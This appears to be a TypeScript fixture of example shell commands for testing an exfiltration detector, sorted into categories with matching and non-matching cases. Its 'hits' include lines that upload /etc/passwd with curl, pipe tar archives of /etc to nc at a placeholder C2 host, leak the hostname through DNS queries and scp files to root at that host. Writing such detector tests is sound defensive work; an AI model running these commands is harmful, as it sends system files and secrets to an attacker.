import { C2, type Examples } from './command-examples.js';

export const EXFILTRATION: Examples = {
  file_uploaded: {
    hits: [`curl -F file=@/etc/passwd http://${C2}/`, 'wget --post-file=/tmp/l http://x'],
    misses: ['curl -X POST -d @body.json http://app'],
  },
  archive_piped_away: {
    hits: [`tar cz /etc | nc ${C2} 80`, `nc ${C2} 9000 < dump.sql`],
    misses: ['tar cz /etc | gzip > x', 'tar czf a.tgz /etc'],
  },
  data_in_names: { hits: ['dig $(cat /etc/hostname | base64).x.example.org'], misses: ['dig example.org'] },
  folder_served: {
    hits: ['python3 -m http.server 8000', 'php -S 0.0.0.0:80'],
    misses: ['python3 -m venv x'],
  },
  copied_to_stranger: {
    hits: [`scp -o StrictHostKeyChecking=no x root@${C2}:/`, 'rclone copy /srv x:'],
    misses: ['scp x host:/srv'],
  },
  data_staged: { hits: ['tar czf /tmp/l.tgz /etc /home'], misses: ['tar czf /srv/backup.tgz /srv/app'] },
  proxy_set: {
    hits: ['proxychains nmap x', 'export https_proxy=http://127.0.0.1:8080'],
    misses: ['curl -x http://proxy.example.org:3128 x'],
  },
};
